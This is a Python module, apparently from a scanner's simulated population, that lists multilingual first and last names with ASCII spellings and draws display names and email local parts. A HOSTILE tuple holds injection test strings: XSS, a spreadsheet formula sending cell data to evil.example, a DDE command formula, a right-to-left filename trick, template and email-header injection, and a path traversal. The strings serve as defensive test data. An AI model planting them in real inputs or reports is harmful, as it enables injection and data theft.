"""Names of people in the scripts of a company that works in many countries."""

import random

from scanner.simulator.population.frozen import Frozen


class Script(Frozen, frozen=True, kw_only=True):
    """First and last names of one language: how they are written, and how their addresses spell them."""

    first: tuple[tuple[str, str], ...]
    last: tuple[tuple[str, str], ...]
    last_comes_first: bool = False
    separator: str = " "


def _pairs(text: str) -> tuple[tuple[str, str], ...]:
    written_and_spelt = (entry.split("=") for entry in text.split())
    return tuple((written, spelt) for written, spelt in written_and_spelt)


LATIN = Script(
    first=_pairs(
        "Anna=anna James=james Émilie=emilie Jürgen=juergen Søren=soeren Łukasz=lukasz Zoë=zoe Iñigo=inigo Çağla=cagla "
        "Štěpán=stepan Ágnes=agnes Ingrid=ingrid Noah=noah Maria=maria Þóra=thora Siobhán=siobhan João=joao"
    ),
    last=_pairs(
        "Müller=mueller Smith=smith Núñez=nunez Dvořák=dvorak Ångström=angstroem O'Neill=oneill Kowalczyk=kowalczyk "
        "Lefèvre=lefevre Yılmaz=yilmaz Novák=novak Øverland=oeverland Szabó=szabo Rossi=rossi Groß=gross Jones=jones "
        "Ionescu=ionescu Guðmundsson=gudmundsson Silva=silva"
    ),
)
CYRILLIC = Script(
    first=_pairs("Олена=olena Иван=ivan Мария=maria Борис=boris Наталія=nataliia Георги=georgi Светлана=svetlana"),
    last=_pairs("Шевченко=shevchenko Петров=petrov Ковальчук=kovalchuk Иванова=ivanova Димитров=dimitrov Їжак=yizhak"),
)
GREEK = Script(
    first=_pairs("Ελένη=eleni Γιώργος=giorgos Μαρία=maria Νίκος=nikos Σοφία=sofia"),
    last=_pairs("Παπαδόπουλος=papadopoulos Νικολάου=nikolaou Γεωργίου=georgiou Οικονόμου=oikonomou"),
)
CHINESE = Script(
    first=_pairs("伟=wei 芳=fang 秀英=xiuying 强=qiang 静=jing 敏=min"),
    last=_pairs("王=wang 李=li 张=zhang 刘=liu 陈=chen"),
    last_comes_first=True,
    separator="",
)
JAPANESE = Script(
    first=_pairs("さくら=sakura 健太=kenta 美咲=misaki 大輔=daisuke"),
    last=_pairs("佐藤=sato 鈴木=suzuki 高橋=takahashi 田中=tanaka"),
    last_comes_first=True,
)
KOREAN = Script(
    first=_pairs("민준=minjun 서연=seoyeon 지훈=jihun 하은=haeun"),
    last=_pairs("김=kim 이=lee 박=park 최=choi"),
    last_comes_first=True,
    separator="",
)
ARABIC = Script(
    first=_pairs("محمد=mohammed فاطمة=fatima أحمد=ahmed ليلى=layla"),
    last=_pairs("الحسن=alhassan خليل=khalil منصور=mansour حداد=haddad"),
)
HEBREW = Script(
    first=_pairs("דוד=david שרה=sarah יוסף=yosef נועה=noa"),
    last=_pairs("כהן=cohen לוי=levi מזרחי=mizrahi פרץ=peretz"),
)
SCRIPTS = (LATIN, CYRILLIC, GREEK, CHINESE, JAPANESE, KOREAN, ARABIC, HEBREW)
_SHARES = (60, 10, 6, 6, 6, 4, 5, 3)

HOSTILE = (
    "<script>alert('name')</script>",
    '=HYPERLINK("https://evil.example/?c="&A1,"Click me")',
    "Harmless\u202efdp.exe",
    '</script><img src=x onerror="alert(1)">',
    "+cmd|' /C calc'!A0",
    "{{ 7 * 7 }} {% raw %}",
    "Bob\r\nBcc: everyone@evil.example",
    "../../../../etc/passwd",
)
"""Display names that attack a report: markup, formulas, a right-to-left override, a template, a header, a path."""


def draw_name(rng: random.Random) -> tuple[str, str]:
    """Draw a person's name.

    Args:
        rng: the seeded source.

    Returns:
        The display name, and the local part of an address for it (ASCII, not yet unique).
    """
    script = rng.choices(SCRIPTS, _SHARES)[0]
    first, first_spelt = rng.choice(script.first)
    last, last_spelt = rng.choice(script.last)
    written = (last, first) if script.last_comes_first else (first, last)
    return script.separator.join(written), f"{first_spelt}.{last_spelt}"
